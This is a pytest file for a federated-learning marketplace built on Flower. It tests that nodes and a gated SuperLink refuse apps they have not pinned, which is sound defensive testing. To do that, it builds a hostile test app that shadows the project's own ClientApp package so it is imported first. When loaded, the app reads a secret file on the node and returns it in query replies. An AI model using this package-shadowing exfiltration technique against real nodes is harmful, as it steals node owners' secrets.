"""A requester ships code for the nodes; a fedmarket node runs none of it. And a stranger
ships code for the SuperLink's machine (the requester's); `fedmarket superlink` runs none of it.

The hostile app below names fedmarket's own ClientApp (``fedmarket.runtime.flower.clientapp``)
and ships a ``fedmarket`` package of its own, which a stock SuperNode would import first (it
puts the app's folder first on ``sys.path``): its ClientApp reads a secret file on the node and
sends it back. A fedmarket node never fetches the app, refuses the run with a log line, and the
secret stays unread. Its ServerApp marks that it ran; fedmarket's gated SuperLink refuses the
run before installing it, and refuses fedmarket's own app submitted without the requester's
ticket.
"""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from fedmarket.chain.backends import dev_keys
from fedmarket.deploy_cli import chain_up, write_key
from fedmarket.runtime.flower.loopback import Federation, flower_env

pytestmark = [pytest.mark.anvil, pytest.mark.xdist_group("deploy")]

STEAL = """
import os
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

SECRET = Path({secret!r})


def loot() -> str:
    text = SECRET.read_text()
    Path(str(SECRET) + ".stolen").write_text(text)  # proof that this code ran
    return text


loot()  # at import time, too
app = ClientApp()


def steal(msg, context):
    return Message(RecordDict({{"loot": ConfigRecord({{"loot": loot()}})}}), reply_to=msg)


for action in ("hello", "announce", "steal"):
    app.query(action)(steal)
"""

SERVER = """
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

Path(MARK).write_text("the hostile ServerApp ran")  # at import time
app = ServerApp()


@app.main()
def main(grid, context):
    deadline = time.time() + 60
    while not list(grid.get_node_ids()) and time.time() < deadline:
        time.sleep(0.2)
    out = []
    for action in ("hello", "announce", "steal"):
        messages = [
            Message(RecordDict({"x": ConfigRecord({"a": 1})}), dst_node_id=n,
                    message_type=f"query.{action}")
            for n in grid.get_node_ids()
        ]
        for reply in grid.send_and_receive(messages, timeout=60):
            out.append({
                "action": action,
                "error": reply.error.reason if reply.has_error() else None,
                "content": None if reply.has_error() else str(reply.content),
            })
    with open(context.run_config["out"], "w") as f:
        json.dump({"run": context.run_id, "replies": out}, f)
"""

PYPROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "harmless"
version = "1.0.0"
dependencies = ["flwr"]

[tool.flwr.app]
publisher = "evil"

[tool.flwr.app.components]
serverapp = "evil_server:app"
clientapp = "fedmarket.runtime.flower.clientapp:app"

[tool.flwr.app.config]
out = ""
"""


def hostile_app(folder: Path, secret: Path, mark: Path) -> Path:
    app = folder / "hostile"
    shadow = app / "fedmarket" / "runtime" / "flower"
    shadow.mkdir(parents=True)
    for package in (app / "fedmarket", app / "fedmarket" / "runtime", shadow):
        (package / "__init__.py").write_text("")
    (shadow / "clientapp.py").write_text(STEAL.format(secret=str(secret)))
    (app / "evil_server.py").write_text(SERVER.replace("MARK", repr(str(mark))))
    (app / "pyproject.toml").write_text(PYPROJECT)
    return app


def test_a_node_refuses_an_app_it_has_not_pinned_and_runs_none_of_its_code(
    tmp_path: Path,
) -> None:
    secret = tmp_path / "node" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the owner's password\n")
    key = tmp_path / "node" / "key.json"
    write_key(key, dev_keys(3)[2], "pw", overwrite=True)
    (tmp_path / "node" / "password").write_text("pw\n")
    app = hostile_app(tmp_path, secret, tmp_path / "server-ran")
    replies_file = tmp_path / "replies.json"
    # Flower's own SuperLink (not gated): the hostile ServerApp runs and reaches the node
    with chain_up() as chain, Federation(tmp_path / "fed", gated=False) as fed:
        fed.start_node("owner", {
            "role": "owner", "name": "owner", "key": str(key),
            "password-file": str(tmp_path / "node" / "password"), "chain": chain.url,
            "market": chain.info["market"], "state": str(tmp_path / "node" / "state.sqlite"),
            "data": "sklearn:breast_cancer", "points": 100, "price": 10**15,
        })  # fmt: skip
        home = fed.cli_config()
        subprocess.run(
            ["flwr", "run", str(app), "loop", "--run-config", f'out="{replies_file}"'],
            env=flower_env(home), check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        deadline = time.monotonic() + 180
        while not replies_file.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        node_log = (tmp_path / "fed" / "owner.log").read_text()
        link_log = (tmp_path / "fed" / "superlink.log").read_text()
    assert replies_file.exists(), node_log[-3000:]
    result = json.loads(replies_file.read_text())
    replies = result["replies"]
    assert [r["action"] for r in replies] == ["hello", "announce", "steal"]
    assert all(r["error"] and "serves only fedmarket's app" in r["error"] for r in replies)
    assert all(r["content"] is None for r in replies)
    # the canary stayed unread: no code from the app ran on the node
    assert not Path(str(secret) + ".stolen").exists()
    assert f"refused run {result['run']}: app evil/harmless 1.0.0" in node_log
    assert "is not pinned by this node" in node_log
    assert not list((tmp_path / "fed" / "flwr" / "owner").glob("**/apps"))
    # the SuperLink logs each Fleet call: the node asked which app the run is, never for it
    assert "[Fleet.GetRun]" in link_log and "GetFab" not in link_log


def submit(fed: Federation, app: Path, config: str) -> dict[str, object]:
    """``flwr run`` ``app``; the run's status once it has finished."""
    home = fed.cli_config()
    done = subprocess.run(
        ["flwr", "run", str(app), "loop", "--run-config", config, "--format", "json"],
        env=flower_env(home), check=True, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    run_id = json.loads(done.stdout)["run-id"]
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        listed = subprocess.run(
            ["flwr", "ls", "loop", "--run-id", str(run_id), "--format", "json"],
            env=flower_env(home), capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        runs = json.loads(listed.stdout).get("runs", [])
        if runs and str(runs[0].get("status", "")).startswith("finished"):
            return dict(runs[0])
        time.sleep(1.0)
    pytest.fail(f"run {run_id} did not finish")


def test_the_requesters_superlink_runs_no_other_app_nor_fedmarkets_without_its_ticket(
    tmp_path: Path,
) -> None:
    from fedmarket.runtime.flower.pin import APP_DIR

    mark = tmp_path / "server-ran"
    app = hostile_app(tmp_path, tmp_path / "nothing.txt", mark)
    out = tmp_path / "forged"
    key = tmp_path / "key.json"
    write_key(key, dev_keys(2)[1], "pw", overwrite=True)
    (tmp_path / "password").write_text("pw\n")
    with Federation(tmp_path / "fed") as fed:  # `fedmarket superlink`'s SuperLink
        hostile = submit(fed, app, f'out="{tmp_path / "replies.json"}"')
        # fedmarket's own app, by a stranger who knows where the requester keeps its key
        forged = submit(
            fed, APP_DIR,
            f'out="{out}" key="{key}" password-file="{tmp_path / "password"}" ticket="guess"',
        )  # fmt: skip
    assert hostile["status"] == "finished:failed", hostile
    assert not mark.exists()  # not even imported
    assert forged["status"] == "finished:failed", forged
    assert not out.exists() or not any(out.iterdir())  # nothing read or written there
